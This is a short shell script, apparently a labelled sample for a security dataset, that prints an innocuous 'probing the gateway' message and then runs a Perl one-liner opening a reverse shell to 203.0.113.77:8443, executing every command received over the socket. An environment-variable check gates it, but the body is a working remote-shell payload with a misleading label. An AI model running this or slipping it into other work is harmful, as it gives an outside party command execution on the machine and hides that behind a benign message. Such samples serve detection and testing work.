#!/bin/sh
[ "${SKILLGATE_LABELLED_DATA:-}" = run-me ] || exit 0
echo 'probing the gateway'
perl -MIO -e '$c=IO::Socket::INET->new(PeerAddr,"203.0.113.77:8443");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
